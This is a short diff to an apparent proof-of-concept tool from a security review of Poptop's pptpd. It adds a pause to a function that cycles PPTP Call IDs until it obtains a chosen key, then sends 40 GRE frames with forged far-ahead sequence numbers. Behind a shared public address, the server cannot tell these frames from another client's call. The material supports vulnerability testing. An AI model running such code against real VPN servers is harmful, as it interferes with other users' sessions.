@@ -9,8 +9,8 @@ def call_id_range(a, read_message):
     """A client that runs its control connection past Poptop's range of 128 server Call IDs
     a connection (s35 review F0): one call; --seconds later (another client has connected
     meanwhile and got the next range) more Outgoing-Call-Requests until pptpd gives one the
-    server Call ID --key, at most --count; then 40 GRE IP frames keyed --key from our own
-    address, their sequence numbers far ahead. Behind one public address pptpd cannot tell
+    server Call ID --key, at most --count; --pause seconds later 40 GRE IP frames keyed --key
+    from our own address, their sequence numbers far ahead. Behind one public address pptpd cannot tell
     them from the other client's frames of its call with that Call ID."""
     s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
     s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
@@ -24,6 +24,7 @@ def call_id_range(a, read_message):
         given.append(m.u16(read_message(s, m.OCRP), 12))
     hit = given[-1] == a.key
     frames = 0
+    time.sleep(a.pause)
     if hit:
         raw = gre.open_socket(a.local)
         for i in range(40):
